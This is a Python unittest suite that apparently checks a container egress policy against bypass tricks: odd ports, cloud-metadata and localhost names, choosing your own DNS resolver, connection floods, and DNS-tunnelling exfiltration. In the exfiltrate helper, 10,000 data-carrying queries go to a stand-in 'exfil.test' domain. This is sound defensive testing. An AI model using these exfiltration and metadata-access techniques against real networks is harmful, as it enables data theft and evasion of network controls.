"""Ways round the policy by port, address and name (NB, IP, DN and HC36 of the abuse list)."""

import contextlib
import socket
import struct
import time
import unittest

from dns_client import dns_query, response_code
from harness import Wire, World
from netns import in_namespace

NAMES = {"good.test": "203.0.113.10", "metadata.google.internal": "169.254.169.254", "svc.ns.cluster.local": "10.1.2.3",
         "mapped.test": ["198.51.100.4", "2001:db8::1"], "host.docker.internal": "10.1.2.3"}
ORIGIN = "203.0.113.10"
EXFILTRATED_NAMES = 10_000


def read_dns(connection):
    file = connection.makefile("rb", buffering=0)
    return read_exactly(file, struct.unpack("!H", read_exactly(file, 2))[0])


def read_exactly(file, count):
    data = b""
    while len(data) < count:
        piece = file.read(count - len(data))
        if not piece:
            raise ConnectionError("the connection ended")
        data += piece
    return data


class WaysOutTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.world = World(NAMES)
        cls.addClassCleanup(cls.world.close)
        cls.world.api.call("ApplyClass", **{"class": {"name": "open"}})
        cls.world.api.call("ApplyClass", **{"class": {"name": "closed", "enableInternet": False, "allowedHosts": {"hosts": ["good.test"]}}})
        cls.open = cls.world.container("open", "open-1")
        cls.closed = cls.world.container("closed", "closed-1")

    def wire(self):
        wire = Wire(self.world)
        self.addCleanup(wire.close)
        return wire

    def test_NB10_other_ports_with_internet_off(self):
        wire = self.wire()
        for port in (22, 25, 53, 853, 8443):
            for address in (ORIGIN, "2001:db8::1"):
                # 53 is the agent's DNS, whatever the address; what is no query ends the connection.
                with self.subTest((address, port)):
                    try:
                        self.assertIn(self.closed.raw(address, port, b"\xff\xffEHLO x\r\n", timeout=10), (None, b""))
                    except ConnectionError:
                        pass
        self.assertEqual(wire.frames(), [])

    def test_HC36_the_address_dialled_never_decides_where_a_name_goes(self):
        for address in ("198.51.100.4", "10.1.2.3", "169.254.169.254"):
            response = self.open.curl("http://good.test/hc36", address=address)
            self.assertEqual(response.body, "origin good.test /hc36", response)
            self.assertEqual(self.world.origin_requests()[-1]["local"], ORIGIN)

    def test_IP12_names_of_the_host_and_its_network(self):
        before = self.world.origin_contacts()
        for name in ("localhost", "localhost.localdomain", "ip6-localhost", "host.docker.internal", "metadata.google.internal",
                     "svc.ns.cluster.local", "a.localhost"):
            with self.subTest(name):
                response = self.open.curl(f"http://{name}/", address=ORIGIN)
                self.assertIn((response.status, response.reason), ((520, "forbidden_address"), (502, "origin_unreachable")), response)
        self.assertEqual(self.world.origin_contacts(), before)
        # No search domain was tried: what was asked is the name itself.
        for line in self.world.dns.text().splitlines():
            if "localdomain" in line:
                self.assertRegex(line, r"\blocalhost\.localdomain\b(?!\.)")

    def test_IP19_a_denied_address_of_a_name_is_not_tried(self):
        self.world.api.enforced("DenyHost", containerId="open-1", host="2001:db8::/32")
        self.addCleanup(self.world.api.enforced, "RemoveDeniedHost", containerId="open-1", host="2001:db8::/32")
        wire = self.wire()
        for _ in range(5):
            self.assertEqual(self.open.curl("http://mapped.test/", address=ORIGIN).status, 200)
            self.assertEqual(self.world.origin_requests()[-1]["local"], "198.51.100.4")
        ipv6 = [frame for frame in wire.frames() if frame[24:28] == "86dd"]
        self.assertEqual(ipv6, [])

    def test_DN01_a_resolver_of_the_containers_choice_is_not_reached(self):
        wire = self.wire()
        for server in ("9.9.9.9", "2001:db8::53"):
            for transport in ("+notcp", "+tcp"):
                for name, expected in (("good.test", "NOERROR"), ("evil.test", "NXDOMAIN")):
                    answer = self.closed.run("dig", f"@{server}", transport, "+time=6", "+tries=1", name).stdout
                    self.assertIn(f"status: {expected}", answer)
        self.assertEqual(wire.frames(), [])

    def test_DN02_over_tcp_the_operators_resolver_is_asked_too(self):
        answer = self.open.run("dig", "@9.9.9.9", "+tcp", "+short", "good.test").stdout
        self.assertEqual(answer.strip(), ORIGIN)
        query = dns_query("good.test", 7)
        framed = struct.pack("!H", len(query)) + query
        with self.open.connect("9.9.9.9", 53) as connection:
            # A byte at a time, then two queries at once.
            for number in range(len(framed)):
                connection.sendall(framed[number:number + 1])
            self.assertEqual(response_code(read_dns(connection)), 0)
            connection.sendall(framed + framed)
            self.assertEqual([read_dns(connection)[:2] for _ in range(2)], [b"\0\7"] * 2)

    def test_DN02_what_is_no_query_ends_the_connection(self):
        wire = self.wire()
        for payload in (b"\xff\xff" + b"x" * 100, b"\0\0", b"\0\5hello", b"GET / HTTP/1.1\r\nHost: good.test\r\n\r\n"):
            with self.subTest(payload):
                answer = self.open.raw("9.9.9.9", 53, payload)
                # FORMERR at most.
                self.assertTrue(not answer or response_code(answer[2:]) == 1, answer)
        self.assertEqual(wire.frames(), [])

    def test_DN02_connections_beyond_the_limit_are_reset_and_harm_nobody(self):
        query = dns_query("good.test", 7)
        framed = struct.pack("!H", len(query)) + query
        answered = 0
        with contextlib.ExitStack() as opened:
            for _ in range(300):
                with contextlib.suppress(ConnectionError):
                    connection = opened.enter_context(self.open.connect("9.9.9.9", 53))
                    connection.sendall(framed)
                    answered += response_code(read_dns(connection)) == 0
            # 64 for each of the two workers; some may have been idle for too long meanwhile.
            self.assertTrue(64 <= answered < 300, answered)
            self.assertIn("status: NXDOMAIN", self.closed.run("dig", "@9.9.9.9", "+tcp", "evil.test").stdout)
        self.assertEqual(self.open.run("dig", "@9.9.9.9", "+tcp", "+short", "+retry=5", "good.test").stdout.strip(), ORIGIN)

    def test_DN04_names_that_carry_data_ask_nobody(self):
        wire = self.wire()
        in_namespace(f"/proc/{self.closed.holder.pid}/ns/net", self.exfiltrate)
        self.assertEqual(wire.frames(), [])
        self.assertNotIn("exfil.test", self.world.dns.text())

    def exfiltrate(self):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(10)
            client.connect(("9.9.9.9", 53))
            for number in range(EXFILTRATED_NAMES):
                client.send(dns_query(f"{number:063d}.{number:032x}.exfil.test", number))
                answer = client.recv(4096)
                # NXDOMAIN, of this question.
                self.assertEqual((answer[:2], response_code(answer)), (struct.pack("!H", number & 0xffff), 3))

    def test_DN16_a_resolver_that_does_not_answer(self):
        self.world.dns.suspend()
        self.addCleanup(self.world.dns.resume)
        begin = time.monotonic()
        answer = self.open.run("dig", "@9.9.9.9", "+time=15", "+tries=1", "slow.test").stdout
        self.assertIn("status: SERVFAIL", answer)
        # The limit is 5 s; the rest is for a busy machine.
        self.assertLess(time.monotonic() - begin, 10)
        response = self.open.curl("http://slow.test/", address=ORIGIN)
        self.assertIn((response.status, response.reason), ((502, "origin_unreachable"), (504, "origin_timeout")), response)


if __name__ == "__main__":
    unittest.main(verbosity=2)
